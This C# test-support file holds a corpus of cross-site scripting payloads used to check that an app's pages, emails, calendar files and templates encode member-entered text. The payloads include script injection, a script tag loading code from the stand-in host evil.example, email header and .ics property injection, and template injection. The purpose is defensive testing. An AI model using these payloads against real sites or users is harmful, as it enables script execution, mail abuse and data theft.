namespace NetworkFunctions.Tests.Support;

/// <summary>
/// Text a member (or the director, in the kickoff document) might type that a careless page, email, .ics or template
/// would turn into markup, script, a new header, a new calendar property or template code. Every value must come out
/// as the same text a reader sees, and as nothing else.
/// </summary>
public static class XssCorpus
{
    /// <summary>A tag no template uses: an element of this name anywhere means a payload was read as markup.</summary>
    public const string ProbeTag = "xss-probe";

    /// <summary>
    /// Single-line payloads, each at most 120 characters (a contribution title's limit) and distinct ignoring case (they
    /// also serve as department names): any member text field takes them.
    /// </summary>
    public static readonly string[] Inline =
    [
        "<script>alert('xss-probe')</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "\"><img src=x onerror=alert(2)>",
        "'><svg onload=alert(3)>",
        "<svg><script>alert(4)</script></svg>",
        "<xss-probe onclick=alert(5)>probe</xss-probe>",
        "\" onmouseover=\"alert(6)\" x=\"",
        "' onfocus='alert(7)' autofocus x='",
        "<a href=\"javascript:alert(8)\">click</a>",
        "javascript:alert(9)//",
        "</textarea><xss-probe>textarea</xss-probe>",
        "</title><xss-probe>title</xss-probe>",
        "</style><xss-probe>style</xss-probe>",
        "<style>*{background:url(javascript:alert(10))}</style>",
        "<iframe srcdoc=\"<script>alert(11)</script>\"></iframe>",
        "<body onload=alert(12)>",
        "<details open ontoggle=alert(13)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>",
        "&lt;xss-probe&gt; stays &amp;lt; encoded",
        "&#60;xss-probe&#62; &#x3C;script&#x3E;",
        "%3Cscript%3Ealert(15)%3C/script%3E",
        "＜script＞alert(16)＜/script＞ fullwidth",
        "\\u003cscript\\u003ealert(17)\\u003c/script\\u003e",
        "<!-- xss-probe comment opens here",
        "<![CDATA[<xss-probe>]]>",
        "<base href=\"//evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(18)\">",
        "<form action=\"javascript:alert(19)\"><button>go</button></form>",
        "<object data=\"javascript:alert(20)\"></object>",
        "<input autofocus onfocus=alert(21)>",
        "{{ 7 | times: 7 }} and {{ 7*7 }}",
        "{% assign probe = 'evaluated' %}{{ probe }}",
        "{{ t.footer }}{% raw %}raw{% endraw %}",
        "{name} {network} {n} {date} {deadline} {departments}",
        "Backslash \\ semicolon; comma, colon: \"quoted\"",
        "Ærø & Søn \u202Egnp.exe <xss-probe/> 🙂",
    ];

    /// <summary>
    /// Payloads with line breaks and other control characters: only the free-text fields (contribution descriptions,
    /// survey answers; titles keep line breaks too) accept them. The kickoff and the change API refuse them.
    /// </summary>
    public static readonly string[] Multiline =
    [
        "first line\r\nATTENDEE:mailto:evil@example.org\r\nEND:VEVENT",
        "Subject line\r\nBcc: evil@example.org\r\n\r\n<xss-probe>body</xss-probe>",
        "</textarea>\n<script>alert(22)</script>\n<textarea>",
        "a\\,b\\;c\\n literal backslashes\nsecond line; with, specials",
        "<scr\0ipt>alert(23)</scr\0ipt> with a NUL\tand a tab",
        "\rLone CR\rbreaks\n</dd><xss-probe>dd</xss-probe>",
    ];

    /// <summary>Every payload, single- and multi-line.</summary>
    public static IEnumerable<string> All => Inline.Concat(Multiline);

    /// <summary>The network's name: its subjects, every page's header and the .ics text carry it.</summary>
    public const string NetworkName = "Netværk <xss-probe>\"'</title><script>alert(30)</script> {{ 7 | times: 7 }} {n} {date} {network}, a;b\\c";

    public const string Organisation = "Kommune & Co. <img src=x onerror=alert(31)> '><svg onload=alert(32)> {% raw %}{{ t.footer }}{% endraw %}";

    /// <summary>A meeting's place, into the invitation, the forms, the agenda, the dashboard and the .ics LOCATION.</summary>
    public const string Location = "Rådhuset, lokale 1; 2. sal \\ \"A\" <iframe srcdoc=\"<script>alert(33)</script>\"> END:VEVENT";

    /// <summary>A meeting's title, into the .ics SUMMARY, the report and the dashboard.</summary>
    public const string MeetingTitle = "Møde; a, b \\ c ATTENDEE:mailto:evil@example.org <xss-probe onclick=alert(34)>";

    public const string DirectorName = "Dorte \"Direktør\" <script>alert(35)</script>";

    public const string FacilitatorName = "Frida, Facilitator; <img src=x onerror=alert(36)> {{ 7 | times: 7 }}";

    public const string FacilitatorOrganisation = "</textarea><xss-probe>organisation</xss-probe>";

    public const string ConsultantName = "Kim 'Konsulent' <svg onload=alert(37)> {name}";

    /// <summary>
    /// The text the forms store for a posted value: line ends as \n (CRLF and a lone CR alike), other control characters
    /// removed, trimmed. A member sees it back like that.
    /// </summary>
    public static string AsStored(string posted) =>
        new string(posted.Replace("\r\n", "\n", StringComparison.Ordinal).Replace('\r', '\n')
            .Where(c => c == '\n' || !char.IsControl(c)).ToArray()).Trim();
}
